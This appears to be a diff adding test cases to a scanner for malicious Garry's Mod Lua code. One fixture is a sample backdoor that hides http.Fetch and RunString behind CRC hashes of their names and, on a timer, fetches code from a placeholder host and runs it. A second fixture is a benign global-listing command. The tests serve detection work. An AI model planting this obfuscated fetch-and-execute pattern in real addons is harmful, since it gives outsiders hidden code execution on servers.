@@ -444,6 +444,42 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('http.Fetch and RunString found by the CRC of their names, one level at a time', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local CRC = util.CRC',
+        'local PATHS = { get = { "2541227442", "1126714439" }, reply = { "2906964782" } }',
+        'local function find(t, crc)',
+        '  for k, v in pairs(t) do',
+        '    if type(k) == "string" and CRC(k) == crc then return v end',
+        '  end',
+        'end',
+        'local function symbol(name)',
+        '  local cur = _G',
+        '  for _, crc in ipairs(PATHS[name]) do cur = find(cur, crc) if cur == nil then return end end',
+        '  return cur',
+        'end',
+        'timer.Create("beat", 120, 0, function()',
+        '  symbol("get")("https://x.invalid/beat", symbol("reply"))',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('every global listed with its CRC, and a library walked for its functions (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'concommand.Add("dump_globals", function(ply)',
+        '  if IsValid(ply) then return end',
+        '  for k, v in pairs(_G) do',
+        '    if type(v) == "function" then print(k, util.CRC(k)) end',
+        '  end',
+        '  for k, v in pairs(http) do print("http." .. k) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
